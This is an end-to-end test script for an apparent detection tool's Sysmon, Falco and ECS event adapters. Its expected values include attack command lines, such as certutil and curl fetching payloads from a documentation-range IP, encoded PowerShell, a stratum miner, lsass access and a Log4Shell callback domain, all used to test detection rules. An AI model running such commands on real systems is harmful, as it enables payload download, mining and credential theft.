#!/usr/bin/env bash
# The event adapters end to end, through `palisade eval --input-format`:
#
#   1. realistic records of each source decode into the ECS fields the
#      SPEC promises: Sysmon 1/3/11/22 as Winlogbeat ships them and in the
#      flat layout (NXLog), Falco's JSON output for process, network and
#      file rules, and ECS in its nested, flattened and mixed spellings.
#      The decisions do not show fields, so a probe policy (one rule per
#      event kind, `when true`) writes every field into its message, and
#      the test reads them back;
#   2. what the adapters do not map (other channels, other Sysmon events,
#      Falco reads and other syscalls, other Falco sources, ECS categories
#      that are not event kinds) and what is not an event at all (bad
#      JSON, arrays, two objects, too deep, too long, empty) gets a
#      decision line with effect allow and an `error` naming why, on the
#      input's line number, and the stream goes on; a value of the wrong
#      type leaves its field undefined with a `warning`, and --strict turns
#      both into exit 2;
#   3. auto-detection decides every file as the explicit format does, and
#      a record given to the wrong adapter is refused, not misread;
#   4. the built-in policies decide the adapted records (a Sysmon encoded
#      PowerShell under IIS, a Falco write below /usr/bin, ...);
#   5. the lab rule of examples/lab decides the ECS, Sysmon and Falco
#      renderings of the lab events alike.  Falco sees no DNS queries (its
#      syscall events carry no query name), so its rendering holds the
#      process and connection events; the lab app runs there under Wine,
#      which is how a Windows cmd.exe shows up in a Linux process table.
#
# Needs $PALISADE (tests/run-all.sh sets it), python3.
. "$(dirname "$0")/lib/harness.sh"

mkdir -p "$TMP/probe"
cat >"$TMP/probe/probe.pal" <<'EOF'
// Writes the decoded fields of every event into its message.
package probe

rule "process" {
  on process
  when true
  message "exe={process.executable}|name={process.name}|cmd={process.command_line}|pid={process.pid}|pexe={process.parent.executable}|pname={process.parent.name}|pcmd={process.parent.command_line}|ppid={process.parent.pid}|cwd={process.working_directory}|user={user.name}|host={host.name}|os={host.os.type}|image={container.image.name}|tag={container.image.tag}|cid={container.id}|md5={process.hash.md5}|sha1={process.hash.sha1}|sha256={process.hash.sha256}|module={event.module}|category={event.category}|type={event.type}|ts={timestamp}"
}

rule "network" {
  on network
  when true
  message "exe={process.executable}|name={process.name}|pid={process.pid}|user={user.name}|host={host.name}|os={host.os.type}|image={container.image.name}|cid={container.id}|transport={network.transport}|direction={network.direction}|sip={source.ip}|sport={source.port}|dip={destination.ip}|dport={destination.port}|domain={destination.domain}|module={event.module}|ts={timestamp}"
}

rule "dns" {
  on dns
  when true
  message "exe={process.executable}|name={process.name}|pid={process.pid}|host={host.name}|os={host.os.type}|image={container.image.name}|qname={dns.question.name}|qtype={dns.question.type}|rcode={dns.response_code}|resolved={dns.resolved_ip}|protocol={network.protocol}|module={event.module}|ts={timestamp}"
}

rule "file" {
  on file
  when true
  message "exe={process.executable}|name={process.name}|pid={process.pid}|host={host.name}|os={host.os.type}|image={container.image.name}|path={file.path}|fname={file.name}|ext={file.extension}|dir={file.directory}|action={event.action}|module={event.module}|ts={timestamp}"
}

rule "library" {
  on library
  when true
  message "exe={process.executable}|name={process.name}|pid={process.pid}|dll={dll.path}|dname={dll.name}|signed={dll.code_signature.signed}|sig={dll.code_signature.subject_name}|action={event.action}|code={event.code}|module={event.module}"
}

rule "access" {
  on process
  when event.code == "10"
  message "exe={process.executable}|pid={process.pid}|target={winlog.event_data.TargetImage}|tpid={winlog.event_data.TargetProcessId}|access={winlog.event_data.GrantedAccess}|action={event.action}"
}

rule "authentication" {
  on authentication
  when true
  message "user={user.name}|sip={source.ip}|logon_type={winlog.event_data.LogonType}|outcome={event.outcome}|action={event.action}|module={event.module}|code={event.code}"
}

// Fires only where paths compare the Windows way (no case, \ = /).
rule "windows" {
  when process.executable like ["c:/WINDOWS/**", "C:/users/**", "C:/APP/**"]
  message "windows"
}
EOF

python3 - <<'PYEOF'
import json, os, subprocess, sys
from harness import PAL, TMP, bad, check, skip, finish

PROBE = os.path.join(TMP, "probe")
DATA = "tests/e2e/data"

def eval_(path, fmt=None, policy=PROBE, extra=()):
    args = [PAL, "eval", "--events", path] + (["--policy", policy] if policy else [])
    if fmt: args += ["--input-format", fmt]
    p = subprocess.run(args + list(extra), capture_output=True, text=True)
    try:
        decs = [json.loads(l) for l in p.stdout.splitlines()]
    except ValueError as e:
        bad(f"{path}: output is JSON lines", p.stdout[:500])
        decs = []
    return p.returncode, decs, p.stderr

def fields(msg):
    out = {}
    for part in msg.split("|"):
        k, _, v = part.partition("=")
        out[k] = v
    return out

def by_line(decs):
    return {d["line"]: d for d in decs}

def expect_fields(label, decs, line, rule, want, windows=None):
    d = by_line(decs).get(line)
    if d is None:
        bad(f"{label}: line {line} has a decision"); return
    if "error" in d:
        bad(f"{label}: line {line} decodes", d["error"]); return
    ms = [m for m in d["matches"] if m["rule"] == rule]
    if not ms:
        bad(f"{label}: line {line} is a {rule} event", json.dumps(d)[:400]); return
    got = fields(ms[0]["message"])
    diff = {k: (v, got.get(k)) for k, v in want.items() if got.get(k) != v}
    check(not diff, f"{label}: line {line} ({rule}) decodes {', '.join(sorted(want))}",
          "\n".join(f"{k}: want {w!r}, got {g!r}" for k, (w, g) in sorted(diff.items())))
    if windows is not None:
        is_win = any(m["rule"] == "windows" for m in d["matches"])
        check(is_win == windows, f"{label}: line {line} paths compare {'the Windows way' if windows else 'byte for byte'}")

def expect_error(label, decs, line, text):
    d = by_line(decs).get(line)
    if d is None:
        bad(f"{label}: line {line} has a decision"); return
    good = d.get("effect") == "allow" and d.get("matches") == [] and text in d.get("error", "")
    check(good, f"{label}: line {line} is an error decision: {text}", json.dumps(d)[:400])

def expect_known(label, cond, issue):
    # A departure from SPEC reported to the decoder's owner: skipped, not
    # failed; once fixed, the check says so and belongs among the others.
    if cond:
        print(f"ok   {label} (the known issue is fixed: make this a regular check)")
    else:
        skip(label, "known issue: " + issue)

# ---------------------------------------------------------------------------
# 1. Sysmon, Winlogbeat layout
f = f"{DATA}/adapters-sysmon-winlogbeat.jsonl"
rc, W, err = eval_(f, "sysmon")
check(len(W) == 10, "sysmon/winlogbeat: one decision per record (10)", len(W))
L = "sysmon/winlogbeat"
expect_fields(L, W, 1, "process", {
    "exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "name": "powershell.exe",
    "cmd": "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A", "pid": "6120",
    "pexe": "c:\\windows\\system32\\inetsrv\\w3wp.exe", "pname": "w3wp.exe", "ppid": "4412",
    "pcmd": "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"",
    "cwd": "C:\\inetpub\\wwwroot\\", "user": "DefaultAppPool", "host": "winctr-host02", "os": "windows",
    # the collector added the container; Sysmon itself does not know it
    "image": "registry.example.com/shop/iis:4.8-ltsc2022", "tag": "4.8-ltsc2022", "cid": "8f2e0c1a1d3a",
    "md5": "7353f60b1739074eb17c5f4dddefe239", "sha1": "04029e121a0cfa5991749937dd22a1d9fdd5bbc4",
    "sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
    "module": "sysmon", "category": "[process]", "type": "[start]", "ts": "2024-03-12T10:02:11.412Z"}, windows=True)
expect_fields(L, W, 2, "network", {
    "name": "powershell.exe", "pid": "6120", "transport": "tcp", "direction": "outbound",
    "sip": "172.24.112.9", "sport": "49811", "dip": "203.0.113.9", "dport": "443", "domain": "cdn.example.net",
    "image": "<undefined>", "cid": "<undefined>", "os": "windows", "module": "sysmon"}, windows=True)
expect_fields(L, W, 3, "network", {
    "name": "w3wp.exe", "direction": "inbound", "sip": "172.24.96.1", "sport": "51522",
    "dip": "172.24.112.9", "dport": "80", "domain": "<undefined>"}, windows=True)
expect_fields(L, W, 4, "dns", {
    "qname": "login.microsoftonline.com", "rcode": "NOERROR", "protocol": "dns", "name": "powershell.exe",
    # CNAME entries skipped, IPv4-mapped addresses read as IPv4
    "resolved": "[20.190.151.7, 20.190.151.9, 2603:1036:3000:d8::5]", "os": "windows"})
expect_fields(L, W, 5, "dns", {"qname": "c2.badactor.invalid", "rcode": "NXDOMAIN", "resolved": "<undefined>"})
expect_fields(L, W, 6, "file", {
    "path": "C:\\Windows\\Temp\\upd.ps1", "fname": "upd.ps1", "ext": "ps1", "dir": "C:\\Windows\\Temp",
    "name": "powershell.exe", "os": "windows"}, windows=True)
d6 = fields(next((m["message"] for m in by_line(W).get(6, {}).get("matches", []) if m["rule"] == "file"), ""))
check(d6.get("action") == "creation", "sysmon/winlogbeat: line 6 (file) has event.action creation (not the task name)",
      d6.get("action"))
# image loads and Security process records (refused before issue 16)
expect_fields(L, W, 7, "library", {
    "dll": "C:\\Windows\\System32\\amsi.dll", "dname": "amsi.dll", "signed": "true", "sig": "Microsoft Windows",
    "name": "powershell.exe", "pid": "6120", "action": "image-load", "code": "7", "module": "sysmon"})
expect_fields(L, W, 8, "process", {
    "exe": "C:\\Windows\\System32\\whoami.exe", "pid": "6120", "cmd": "whoami /all", "pname": "cmd.exe",
    "user": "WINCTR-HOST02$", "module": "security", "type": "[start]"}, windows=True)
expect_fields(L, W, 9, "network", {
    "transport": "udp", "sip": "fd00:24::9", "sport": "55123", "dip": "2001:db8:53::1", "dport": "53",
    "user": "<undefined>"})
# a process create whose event data was lost on the way is not allowed silently
expect_error(L, W, 10, "Sysmon EventID 1 record has no event data: no winlog.event_data or EventData object")
check(rc == 0, "sysmon/winlogbeat: exit 0 without --strict", err)

# ---------------------------------------------------------------------------
# Sysmon, flat layout (NXLog), data at the top level or under EventData
f = f"{DATA}/adapters-sysmon-flat.jsonl"
rc, N, err = eval_(f, "sysmon")
L = "sysmon/flat"
check(len(N) == 7, f"{L}: one decision per record (7)", len(N))
expect_fields(L, N, 1, "process", {
    "exe": "C:\\Windows\\System32\\certutil.exe", "name": "certutil.exe", "pid": "7344",
    "cmd": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
    "pexe": "C:\\Windows\\System32\\cmd.exe", "pname": "cmd.exe", "ppid": "6988", "cwd": "C:\\app\\",
    "user": "SYSTEM", "host": "WINCTR-HOST03.corp.example.com", "os": "windows", "image": "<undefined>",
    "md5": "a8e2f4a1d3c5b7e9f0a1b2c3d4e5f6a7", "sha1": "<undefined>",
    "sha256": "0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c", "module": "sysmon"}, windows=True)
t1 = fields(next((m["message"] for m in by_line(N).get(1, {}).get("matches", []) if m["rule"] == "process"), ""))
check(t1.get("ts", "").startswith("2024-03-12"), f"{L}: line 1 carries UtcTime as the timestamp", t1.get("ts"))
check(t1.get("ts") == "2024-03-12T10:05:00.120Z", f"{L}: line 1 timestamp is RFC 3339 like the other layouts",
      t1.get("ts"))
expect_fields(L, N, 2, "network", {"transport": "tcp", "direction": "outbound", "sip": "172.24.112.10",
                                   "sport": "49901", "dip": "203.0.113.9", "dport": "80", "domain": "<undefined>"})
expect_fields(L, N, 3, "dns", {"qname": "pool.supportxmr.com", "resolved": "[203.0.113.20]", "name": "a.exe"})
expect_fields(L, N, 4, "file", {"path": "C:\\Users\\Public\\a.exe", "fname": "a.exe", "ext": "exe",
                                "dir": "C:\\Users\\Public", "action": "creation"}, windows=True)
expect_fields(L, N, 5, "process", {"exe": "C:\\Users\\Public\\a.exe", "cmd": "a.exe -o stratum+tcp://203.0.113.20:3333",
                                   "pname": "cmd.exe", "user": "SYSTEM"}, windows=True)
expect_fields(L, N, 6, "access", {"exe": "C:\\Users\\Public\\a.exe", "pid": "7400",
                                  "target": "C:\\Windows\\system32\\lsass.exe", "tpid": "632", "access": "0x1010",
                                  "action": "process-access"})
expect_fields(L, N, 7, "authentication", {"user": "svc-app", "sip": "172.24.96.1", "logon_type": "3",
                                          "outcome": "success", "action": "logged-in", "module": "security"})

# ---------------------------------------------------------------------------
# Falco JSON output
f = f"{DATA}/adapters-falco.jsonl"
rc, F, err = eval_(f, "falco")
L = "falco"
check(len(F) == 15, f"{L}: one decision per record (15)", len(F))
expect_fields(L, F, 1, "process", {
    "exe": "/usr/bin/bash", "name": "bash", "cmd": "bash -il", "pid": "28811", "pexe": "/usr/bin/runc",
    "pname": "runc", "pcmd": "runc init", "ppid": "28790", "cwd": "/", "user": "root", "host": "k8s-node-3",
    "os": "linux", "image": "docker.io/library/nginx:1.25.3", "tag": "1.25.3", "cid": "4c7a3e4b9f1d",
    "module": "falco", "type": "[start]", "ts": "2024-03-12T11:20:01.512346789Z"}, windows=False)
expect_fields(L, F, 2, "process", {   # container.image in one field, proc.exe as the path, <NA> = absent
    "exe": "/usr/bin/curl", "pexe": "<undefined>", "pname": "sh", "cwd": "/srv/app/", "user": "www-data",
    "image": "registry.example.com/shop/storefront:5.0.2", "tag": "5.0.2", "cid": "71d0c3b2a1e9"})
expect_fields(L, F, 3, "network", {
    "direction": "outbound", "transport": "tcp", "sip": "10.42.3.17", "sport": "51544", "dip": "203.0.113.9",
    "dport": "443", "name": "curl", "pid": "30112", "user": "www-data", "image": "docker.io/library/nginx:1.25.3"})
expect_fields(L, F, 4, "network", {   # accept: the client is the source, the server the destination
    "direction": "inbound", "sip": "10.42.7.9", "sport": "50122", "dip": "10.42.3.40", "dport": "5005",
    "image": "registry.example.com:5000/shop/api:2.4.1", "name": "java"})
expect_fields(L, F, 5, "network", {   # only fd.name, IPv6
    "direction": "outbound", "sip": "fd00::5", "sport": "43210", "dip": "2001:db8:6667::9", "dport": "6667"})
expect_fields(L, F, 6, "file", {"path": "/usr/bin/ps", "fname": "ps", "dir": "/usr/bin", "ext": "<undefined>",
                                "action": "creation", "name": "cp", "os": "linux"})
expect_fields(L, F, 7, "file", {"path": "/etc/ld.so.preload", "action": "modification", "name": "bash"})
expect_error(L, F, 8, "opens for reading only")
expect_error(L, F, 9, "Falco evt.type dup2 is not an event palisade decides")
expect_error(L, F, 10, "unsupported Falco source k8s_audit")
expect_fields(L, F, 11, "process", {"name": "sh", "cmd": "sh -c id", "pname": "php-fpm8.2",
                                    "pexe": "/usr/local/sbin/php-fpm8.2", "image": "registry.example.com/shop/php:8.2-fpm"})
expect_error(L, F, 12, "Falco evt.type socket is not an event palisade decides")
expect_fields(L, F, 13, "process", {"name": "apt-get", "cid": "host", "image": "<undefined>"})
expect_fields(L, F, 14, "file", {"path": "/tmp/.x/xmrig", "action": "creation", "name": "wget"})
expect_error(L, F, 15, "cannot tell whether Falco openat event writes")

# ---------------------------------------------------------------------------
# ECS
f = f"{DATA}/adapters-ecs.jsonl"
rc, E, err = eval_(f, "ecs")
L = "ecs"
check(len(E) == 8, f"{L}: one decision per record (8)", len(E))
expect_fields(L, E, 1, "process", {
    "exe": "/usr/bin/curl", "name": "curl", "cmd": "curl -fsSL http://203.0.113.9/x.sh", "pid": "30112",
    "pexe": "/bin/sh", "pname": "sh", "ppid": "30100", "cwd": "/srv/app", "user": "www-data",
    "host": "lnx-node-1", "os": "linux", "image": "registry.example.com:5000/shop/web:3.2.0", "tag": "3.2.0",
    "cid": "e1d2c3b4a5f6", "sha256": "3f1a7e0c8b2d4e6f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f",
    "module": "auditd"}, windows=False)
expect_fields(L, E, 2, "network", {   # flattened keys; ECS 8 "egress"; a port as a string
    "direction": "outbound", "transport": "tcp", "sip": "10.42.3.21", "sport": "38122", "dip": "203.0.113.9",
    "dport": "6667", "name": "perl", "image": "registry.example.com:5000/shop/web:3.2.0"})
expect_fields(L, E, 3, "process", {   # category as a string; nested and flattened mixed
    "exe": "/bin/bash", "name": "bash", "pname": "php-fpm8.2", "pid": "30990", "cid": "9a8b7c6d5e4f",
    "category": "[process]", "type": "[start]"})
expect_fields(L, E, 4, "dns", {"qname": "C59E3BQB2F1.OAST.FUN", "qtype": "A", "rcode": "NOERROR",
                               "resolved": "[203.0.113.50, 2001:db8::50]", "name": "java"})
expect_fields(L, E, 5, "dns", {"qname": "www.google.com", "name": "curl"})   # kind from the fields alone
expect_fields(L, E, 6, "file", {"path": "C:\\Windows\\System32\\wbem\\WmiSvc.dll", "fname": "WmiSvc.dll",
                                "ext": "dll", "dir": "C:\\Windows\\System32\\wbem", "action": "creation"})
expect_fields(L, E, 7, "file", {"path": "/etc/cron.d/0kworker", "name": "bash",
                                "action": "modification"})   # the first spelling of file.path wins
expect_fields(L, E, 8, "authentication", {"user": "bob", "sip": "203.0.113.77", "outcome": "success"})

# ---------------------------------------------------------------------------
# 2. lines that are not events, and values of the wrong type
f = f"{DATA}/adapters-malformed.jsonl"
rc, M, err = eval_(f)
L = "malformed"
check(len(M) == 17, f"{L}: every line gets a decision (17)", len(M))
expect_fields(L, M, 1, "process", {"name": "sh"})
expect_error(L, M, 2, "line is not valid JSON at byte 1")
expect_error(L, M, 3, "line is not valid JSON at byte 57")
expect_error(L, M, 4, "line is an array of objects, not a JSON object")
expect_error(L, M, 5, "line holds more than one JSON value")
expect_error(L, M, 6, "cannot tell the event kind: add event.category")
expect_fields(L, M, 7, "authentication", {"user": "root", "outcome": "failure"})
expect_error(L, M, 12, 'winlog.event_id: expected an event number (a whole number 0-65535), got "one"')
expect_error(L, M, 14, "Falco evt.type ptrace is not an event palisade decides")
expect_error(L, M, 15, "nests deeper than 64 levels")
expect_error(L, M, 16, "empty line")
expect_fields(L, M, 17, "process", {"name": "sh", "cmd": "sh -c still decided after the bad lines"})
for line, field, text in [(8, "pid", "process.pid: expected a number"),
                          (9, "dport", "destination.port: 70000 is not a port number"),
                          (10, "dip", 'destination.ip: expected an IP address, got "not-an-address"'),
                          (11, "name", "process.name: expected a string, got an array"),
                          (13, "pid", "ProcessId: expected a number, got a string")]:
    d = by_line(M).get(line, {})
    rule = "network" if field in ("dport", "dip") else "process"
    got = fields(next((m["message"] for m in d.get("matches", []) if m["rule"] == rule), "x=y"))
    check("error" not in d and text in d.get("warning", "") and got.get(field) == "<undefined>",
          f"{L}: line {line} decides with {field} undefined and a warning: {text}", json.dumps(d)[:300])
check("17 events" in err and "9 input errors" in err and "5 with unreadable fields" in err,
      f"{L}: the summary counts 9 input errors and 5 events with unreadable fields", err)
check(rc == 0, f"{L}: exit 0 without --strict", f"exit {rc}")
rc2, _, _ = eval_(f, extra=["--strict"])
check(rc2 == 2, f"{L}: --strict exits 2", f"exit {rc2}")

# Over-long lines (1 MiB is the limit): generated here, not kept in git.
longf = os.path.join(TMP, "long.jsonl")
with open(longf, "w") as out:
    ev = lambda cmd: json.dumps({"event": {"category": ["process"]}, "process": {"name": "sh", "command_line": cmd}})
    out.write(ev("a" * (1 << 20)) + "\n")            # just over
    out.write(ev("b" * ((1 << 20) - 200)) + "\n")    # just under
    out.write("x" * (4 << 20) + "\n")                 # not JSON and far over
    out.write(ev("after") + "\n")
rc, G, err = eval_(longf)
L = "long lines"
check(len(G) == 4, f"{L}: one decision per line (4)", len(G))
expect_error(L, G, 1, "longer than 1048576 bytes")
expect_fields(L, G, 2, "process", {"name": "sh"})
expect_error(L, G, 3, "longer than 1048576 bytes")
expect_fields(L, G, 4, "process", {"cmd": "after"})

# ---------------------------------------------------------------------------
# 3. auto-detection and the wrong adapter
for name, fmt in [("adapters-sysmon-winlogbeat", "sysmon"), ("adapters-sysmon-flat", "sysmon"),
                  ("adapters-falco", "falco"), ("adapters-ecs", "ecs")]:
    path = f"{DATA}/{name}.jsonl"
    _, a, _ = eval_(path)
    _, b, _ = eval_(path, fmt)
    check(a == b and len(a) > 0, f"{name}: auto-detection decides like --input-format {fmt}")
_, X, _ = eval_(f"{DATA}/adapters-falco.jsonl", "sysmon")
check(len(X) == 15 and all("not a Windows event record" in d.get("error", "") for d in X),
      "Falco records given to the Sysmon adapter are refused line by line", [d.get("error") for d in X][:3])
_, X, _ = eval_(f"{DATA}/adapters-sysmon-flat.jsonl", "falco")
check(len(X) == 7 and all("not a Falco record" in d.get("error", "") for d in X),
      "Sysmon records given to the Falco adapter are refused line by line", [d.get("error") for d in X][:3])

# ---------------------------------------------------------------------------
# 4. the built-in policies on adapted records
def rules_of(decs, line):
    return sorted(m["rule"] for m in by_line(decs).get(line, {}).get("matches", []))
_, W, _ = eval_(f"{DATA}/adapters-sysmon-winlogbeat.jsonl", policy=None)
check(rules_of(W, 1) == ["PowerShell encoded command", "Shell spawned by a server process"],
      "built-in: Sysmon encoded PowerShell under IIS", rules_of(W, 1))
_, N, _ = eval_(f"{DATA}/adapters-sysmon-flat.jsonl", policy=None)
check(rules_of(N, 1) == ["certutil downloads a file"], "built-in: flat Sysmon certutil -urlcache", rules_of(N, 1))
check(rules_of(N, 3) == ["DNS query for a mining pool"] and by_line(N)[3]["effect"] == "prevent",
      "built-in: flat Sysmon DNS query for a mining pool is prevented", json.dumps(by_line(N).get(3)))
# the a.exe certutil wrote on line 4 runs here: the chain completes too (policies/chains.pal)
check(rules_of(N, 5) == ["Downloaded file executed", "Stratum mining URL on a command line"],
      "built-in: flat Sysmon stratum URL, from the file certutil wrote (a chain)", rules_of(N, 5))
_, F, _ = eval_(f"{DATA}/adapters-falco.jsonl", policy=None)
check(rules_of(F, 6) == ["Write below a Linux system directory"], "built-in: Falco write to /usr/bin/ps", rules_of(F, 6))
check(rules_of(F, 7) == ["Dynamic linker preload file written"], "built-in: Falco ld.so.preload write", rules_of(F, 7))
check(rules_of(F, 11) == ["Shell spawned by a server process"], "built-in: Falco sh under php-fpm", rules_of(F, 11))
check(rules_of(F, 13) == [], "built-in: Falco apt-get on the host is not container drift", rules_of(F, 13))
_, E, _ = eval_(f"{DATA}/adapters-ecs.jsonl", policy=None)
check(rules_of(E, 2) == ["Outbound IRC connection"], "built-in: ECS connection to port 6667", rules_of(E, 2))
check(rules_of(E, 3) == ["Reverse shell over /dev/tcp", "Shell spawned by a server process"],
      "built-in: ECS bash reverse shell under php-fpm", rules_of(E, 3))
check(rules_of(E, 4) == ["DNS query for a known-bad domain"], "built-in: ECS Log4Shell callback lookup", rules_of(E, 4))
check(rules_of(E, 6) == ["Executable written below the Windows system directory"],
      "built-in: ECS DLL written below System32", rules_of(E, 6))
check(rules_of(E, 7) == ["Cron file written"], "built-in: ECS cron.d write", rules_of(E, 7))

# ---------------------------------------------------------------------------
# 5. the lab rule on the three renderings of the lab events
def summary(decs):
    return [(d["effect"], sorted((m["rule"], m["effect"]) for m in d["matches"]), "error" in d) for d in decs]
_, LE, _ = eval_("examples/lab/events.jsonl", policy="examples/lab")
_, LS, _ = eval_("examples/lab/events.sysmon.jsonl", "sysmon", policy="examples/lab")
_, LF, _ = eval_("examples/lab/events.falco.jsonl", "falco", policy="examples/lab")
want = [d["effect"] for d in LE]
check(want == ["allow", "prevent", "allow", "alert", "allow", "allow", "prevent", "prevent", "allow"],
      "lab ECS: cmd.exe prevented, 1.1.1.1 alerted, DNS outside google.com prevented", want)
check(summary(LS) == summary(LE), "lab: the Sysmon rendering decides every event as the ECS one",
      f"ecs:    {summary(LE)}\nsysmon: {summary(LS)}")
falco_lines = [1, 2, 3, 4, 9]   # the ECS events Falco can see: no DNS
check(summary(LF) == [summary(LE)[i - 1] for i in falco_lines],
      "lab: the Falco rendering decides its events as the ECS ones", f"falco: {summary(LF)}")
msgs = [m["message"] for d in LS + LF for m in d["matches"]]
check(any("CMD.EXE denied in wincontainerapp:latest" in m for m in msgs)
      and any("cmd.exe denied in wincontainerapp:latest" in m for m in msgs)
      and sum("connection to 1.1.1.1:443 denied" in m for m in msgs) == 2,
      "lab: Sysmon and Falco messages name the process and the connection", "\n".join(msgs))
_, LS2, _ = eval_("examples/lab/events.sysmon.jsonl", policy="examples/lab")
_, LF2, _ = eval_("examples/lab/events.falco.jsonl", policy="examples/lab")
check(LS2 == LS and LF2 == LF, "lab: the renderings are recognised without --input-format")

# ---------------------------------------------------------------------------
# 6. Windows paths in \Device\HarddiskVolumeN form: drive paths once the
#    volume map is given (--volume-map on eval, agent and learn)
VM_POLICY = os.path.join(TMP, "vm")
os.makedirs(VM_POLICY, exist_ok=True)
with open(os.path.join(VM_POLICY, "vm.pal"), "w") as f:
    f.write("runtime \"no cmd\" {\n  process { deny 'C:\\Windows\\System32\\cmd.exe' effect prevent }\n}\n")
vm_events = os.path.join(TMP, "vm.jsonl")
with open(vm_events, "w") as f:
    f.write(json.dumps({"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
                                   "event_data": {"Image": "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
                                                  "ProcessId": "7"}},
                        "container": {"image": {"name": "app:1"}}}) + "\n")
rc, V, err = eval_(vm_events, policy=VM_POLICY)
check(len(V) == 1 and V[0]["effect"] == "allow" and "is not in the volume map" in V[0].get("warning", ""),
      "volume map: without it a \\Device\\ path cannot match the drive path, and the decision says why",
      json.dumps(V))
rc, V, err = eval_(vm_events, policy=VM_POLICY, extra=["--volume-map", "\\Device\\HarddiskVolume3=C:"])
check(len(V) == 1 and V[0]["effect"] == "prevent" and "warning" not in V[0]
      and V[0].get("original", {}).get("process.executable") == "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe"
      and "process C:\\Windows\\System32\\cmd.exe denied" in V[0]["matches"][0]["message"],
      "volume map: eval --volume-map maps the volume to C:, the decision keeps what the event said", json.dumps(V))
p = subprocess.run([PAL, "agent", "--policy", VM_POLICY, "--volume-map", "HarddiskVolume3=c"],
                   stdin=open(vm_events), capture_output=True, text=True, timeout=60)
A = [json.loads(l) for l in p.stdout.splitlines() if l.strip()]
check(p.returncode == 0 and len(A) == 1 and A[0]["effect"] == "prevent",
      "volume map: the agent takes --volume-map too", p.stdout + p.stderr)
p = subprocess.run([PAL, "learn", "--events", vm_events, "--volume-map", "HarddiskVolume3=C:"],
                   capture_output=True, text=True, timeout=60)
check(p.returncode == 0 and "allow 'C:\\Windows\\System32\\cmd.exe'" in p.stdout,
      "volume map: learn writes the drive path", p.stdout + p.stderr)
p = subprocess.run([PAL, "eval", "--events", vm_events, "--volume-map", "C:=HarddiskVolume3"],
                   capture_output=True, text=True, timeout=60)
check(p.returncode == 2 and "--volume-map: volume map entry 1 'C:=HarddiskVolume3': expected "
      "\\Device\\HarddiskVolumeN=X:" in p.stderr, "volume map: a bad map is refused, naming the entry", p.stderr)

finish()
PYEOF
